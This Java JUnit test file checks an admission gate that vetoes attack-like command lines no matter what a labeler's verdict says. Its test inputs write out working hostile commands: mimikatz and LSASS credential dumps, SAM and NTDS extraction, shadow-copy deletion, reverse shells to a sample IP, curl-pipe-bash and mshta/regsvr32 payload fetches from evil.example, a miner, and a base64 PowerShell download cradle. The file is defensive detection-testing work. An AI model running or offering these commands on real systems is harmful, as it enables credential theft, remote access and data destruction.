package dev.longtail.labeler.admission;

import static org.assertj.core.api.Assertions.assertThat;

import dev.longtail.labeler.client.LabelResult;
import dev.longtail.labeler.client.Verdict;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class AdmissionGateTest {
  private final AdmissionGate gate = new AdmissionGate();

  private static LabelResult result(Verdict verdict) {
    return new LabelResult(verdict, "because", "m", "p");
  }

  private static String encoded(String script) {
    return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
  }

  @ParameterizedTest
  @EnumSource(Verdict.class)
  void onlyBenignIsAdmitted(Verdict verdict) {
    assertThat(gate.admit("ls -la", result(verdict)).admitted())
        .isEqualTo(verdict == Verdict.BENIGN);
  }

  @Test
  void theReasonSaysWhatHappened() {
    assertThat(gate.admit("ls", result(Verdict.BENIGN)).reason()).isEqualTo("benign");
    assertThat(gate.admit("ls", result(Verdict.MALICIOUS)).reason()).isEqualTo("malicious");
    assertThat(gate.admit("ls", LabelResult.abstained("http 500", "m", "p")).reason())
        .isEqualTo("abstained: http 500");
  }

  @Test
  void aClassifierThatHasToAgreeIsAskedLastAndOnlyAboutBenign() {
    List<String> asked = new ArrayList<>();
    AdmissionGate strict =
        new AdmissionGate(
            Vetoes.BUILT_IN,
            line -> {
              asked.add(line);
              return line.startsWith("odd")
                  ? Optional.of(PresentClassifier.objection(0.91234, 0.5))
                  : Optional.empty();
            });
    assertThat(strict.admit("ls", result(Verdict.BENIGN))).isEqualTo(new Admission(true, "benign"));
    assertThat(strict.admit("odd", result(Verdict.BENIGN)))
        .isEqualTo(new Admission(false, "classifier: malicious: score 0.9123, the limit is 0.5"));
    assertThat(strict.admit("odd", result(Verdict.MALICIOUS)).reason()).isEqualTo("malicious");
    assertThat(strict.admit("odd", result(Verdict.ABSTAINED)).reason()).startsWith("abstained: ");
    assertThat(strict.admit("odd; mimikatz.exe", result(Verdict.BENIGN)).reason())
        .startsWith("veto: ");
    assertThat(asked).containsExactly("ls", "odd");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "C:\\tools\\mimikatz.exe privilege::debug sekurlsa::logonpasswords exit",
        "m^imi\"\"katz.exe",
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\o.dmp full",
        "procdump64.exe -ma lsass.exe out",
        "reg save HKLM\\SAM sam.hiv",
        "ntdsutil \"ac i ntds\" ifm \"create full c:\\temp\" q q",
        "vssadmin.exe Delete Shadows /All /Quiet",
        "wmic shadowcopy delete",
        "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "nc -e /bin/sh 203.0.113.5 4444",
        "nc.exe 203.0.113.5 4444 -e cmd.exe",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
        "python3 -c 'import"
            + " socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
        "curl -s http://203.0.113.5/x.sh | bash",
        "bash <(curl -s http://203.0.113.5/x.sh)",
        "wget http://203.0.113.5/bins/mips; chmod 777 mips; ./mips",
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
        "mshta http://evil.example/x.hta",
        "regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
        "xmrig -o pool.example:3333",
        "chmod u+s /bin/bash"
      })
  void noVerdictOutweighsTheMarksOfAnAttack(String line) {
    Admission admission = gate.admit(line, result(Verdict.BENIGN));
    assertThat(admission.admitted()).isFalse();
    assertThat(admission.reason()).startsWith("veto: ");
  }

  @Test
  void aDownloadHiddenInBase64IsVetoed() {
    String script = "IEX (New-Object Net.WebClient).DownloadString('https://evil.example/a')";
    String line = "powershell.exe -NoP -enc " + encoded(script);
    assertThat(gate.admit(line, result(Verdict.BENIGN)).reason())
        .isEqualTo("veto: download hidden in base64 (T1059.001)");
    String nested = "powershell -EncodedCommand " + encoded("powershell -e " + encoded(script));
    assertThat(gate.admit(nested, result(Verdict.BENIGN)).reason()).startsWith("veto: ");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "iex ((New-Object"
            + " System.Net.WebClient).DownloadString('https://packages.example.com/install.ps1'))",
        "curl -fsSL https://get.example.com | sh",
        "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'",
        "exec 3<>/dev/tcp/www.example.com/80",
        "nc -zv localhost 8080",
        "reg query HKLM\\SYSTEM\\CurrentControlSet",
        "vssadmin list shadows",
        "procdump -ma w3wp.exe",
        "wget http://10.0.0.5/repo/app.rpm",
        "curl http://127.0.0.1:9200/_cat/health",
        "chmod 4755 /usr/local/bin/helper",
        "echo $_POST",
        "rundll32.exe shell32.dll,Control_RunDLL",
        "man nc",
        "git commit -m 'sync'"
      })
  void administratorsAreNotVetoed(String line) {
    assertThat(gate.admit(line, result(Verdict.BENIGN)).reason()).isEqualTo("benign");
  }

  @Test
  void anEncodedScriptWithoutMarksIsLeftToTheLabeler() {
    String line = "powershell -EncodedCommand " + encoded("Get-Service | Sort-Object Status");
    assertThat(gate.admit(line, result(Verdict.BENIGN)).admitted()).isTrue();
  }
}
